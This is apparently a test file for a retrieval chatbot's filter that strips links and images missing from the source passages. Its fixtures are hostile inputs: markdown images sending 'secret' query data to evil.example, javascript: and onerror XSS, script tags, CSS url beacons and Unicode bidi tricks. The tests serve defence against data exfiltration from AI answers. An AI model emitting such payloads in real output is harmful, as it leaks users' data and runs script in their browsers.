"""Links and images of an answer: only what the sources hold, whole, is left; and text is left alone."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ragbot.documents import Document, Passage
from ragbot.generation.verification.links import Links

TEXT = (
    "See https://example.org/guide?page=2 and [the code](https://code.example/x). <img src='a.png'> 见 www.example.cn。"
)
DOCUMENT = Document(1, "https://docs.example/page", "t", "md", "en", None, "h")
LINKS = Links([Passage(DOCUMENT, TEXT, 0, len(TEXT), None, (), 1.0)])


def filtered(text: str, size: int = 0) -> str:
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join(LINKS.filter(pieces))


@pytest.mark.parametrize(
    "text",
    [
        "Read https://example.org/guide?page=2.",
        "It is [the code](https://code.example/x) [1].",
        "[source](https://docs.example/page)",
        "请看 www.example.cn。",
        "a[i](x) and f[0](y), [see](above) [2] [1, 3] x < y, a<b>c</b>, <p>text</p>, ratio 3:4, http, data: 5",
        "The tag <img> shows an image; `<a>` links.",
        "shown by <img src='a.png'>",
        "Wow! [1] 好！【2】 [note] !important",
        "Note [1]: it is so. [2]: https://example.org/guide?page=2\n[3]: https://code.example/x",
        "List<String> x = new List<>(); if a<b: //comment\n x>y",
        "",
    ],
)
@pytest.mark.parametrize("size", [0, 1, 3])
def test_left_as_it_is(text: str, size: int) -> None:
    assert filtered(text, size) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret) done", "x done"),
        ("![](https://code.example/x)", ""),
        ("[click](https://evil.example/a)", "click"),
        ("[click](https://evil.example/a(b)c) now", "click now"),
        ("[![pixel](https://evil.example/1)](https://evil.example/2) b", "pixel b"),
        ("[![pixel](https://evil.example/1)](https://code.example/x)", "[pixel](https://code.example/x)"),
        ("点击[这里](javascript:alert(1))。", "点击这里。"),
        ("Go to https://evil.example/steal?d=123!", "Go to evil.example!"),
        ("去 http://www.evil.example/路径 看看", "去 evil.example 看看"),
        ("https://example.org/guide?page=2&d=secret", "example.org"),
        ("https://example.org/guide", "example.org"),
        ("bwww.www.www.evil.example/x", "bwww.evil.example"),
        ("<https://evil.example/x>", "evil.example"),
        ("www.evil.example/x", "evil.example"),
        ("<img src=https://evil.example/x onerror=alert(1)>a", "a"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<a href='https://evil.example'>b</a>", "b</a>"),
        ("[a][1]\n\n[1]: https://evil.example/x\nend", "[a][1]\n\n[1]: evil.example\nend"),
        ("[a][1]\n\n[1]: //evil.example/x", "[a][1]\n\n[1]: evil.example"),
        # As Markdown and browsers read it: over the end of a line, with entities, with backslashes, in any tag.
        ("![a\nb](//evil.example/p?q=secret)", "a\nb"),
        ("[a](<//evil.example/p>\n'title') b", "a b"),
        ("![a][b]\n\n[b]:  //evil.example/p?q=secret", "![a][b]\n\n[b]:  evil.example"),
        ("![a][b]\n\n[b]:\n//evil.example/p?q=secret\nend", "![a][b]\n\n[b]:\nevil.example\nend"),
        ("![a][b]\n\n[b]: &#104;ttps://evil.example/x 'title'", "![a][b]\n\n[b]: evil.example 'title'"),
        ("![a][b]\n\n[b]: https\\://evil.example/x", "![a][b]\n\n[b]: evil.example"),
        ("> ![a][b]\n>\n> [b]: <//evil.example/x>", "> ![a][b]\n>\n> [b]: evil.example"),
        ("<img\nsrc=//evil.example/p onerror=alert(1)>a", "a"),
        ("<script\n>alert(1)</script\n>", "alert(1)"),
        ("<frame src=//evil.example/x><textarea autofocus>b</textarea>", "b"),
        ("<div style='background:url(//evil.example/x)'>b</div>", "b</div>"),
        ("<p onclick=alert(1)>b</p>", "b</p>"),
        ("safe \u202eevil\u202c \U000e0061text", "safe evil text"),
    ],
)
@pytest.mark.parametrize("size", [0, 1, 2, 7])
def test_taken_out(text: str, shown: str, size: int) -> None:
    assert filtered(text, size) == shown


def test_empty_pieces_pass_and_the_end_is_not_lost() -> None:
    assert list(LINKS.filter(["", "a [b", ""])) == ["", "a ", "", "[b"]


def test_what_is_no_link_is_not_held_back() -> None:
    shown = list(LINKS.filter(["See [the code](https://code.example/x) ", "and a<b ", "or [2]: ", "x ", "y"]))
    assert [len(piece) > 0 for piece in shown].count(True) == 5


@example(["b", "www.", "www.", "www."])
@given(
    st.lists(
        st.sampled_from(["![", "[a]", "(http://e.x/", ")", "]", "<img src=", ">", "www.", "b", " ", "\n"]), max_size=30
    )
)
def test_no_image_is_ever_left(parts: list[str]) -> None:
    for shown in ("".join(LINKS.filter(parts)), LINKS.cleaned("".join(parts))):
        assert not re.search(r"!\[[^\[\]\n]*\]\([^()\n]*[:/][^()\n]*\)|<img src=[^>\n]*>|http://|(?<!\w)www\.\w", shown)


def test_long_texts_take_no_square_of_their_length() -> None:
    for unit in ("[", "![", "[a](", "<a ", "<a b=", "\n[a]: ", "[a\n", "[a](b)", "http://", "!", "](", "[[a]("):
        started = time.process_time()
        LINKS.cleaned(unit * 4000)
        list(LINKS.filter([unit] * 400))
        assert time.process_time() - started < 2, unit
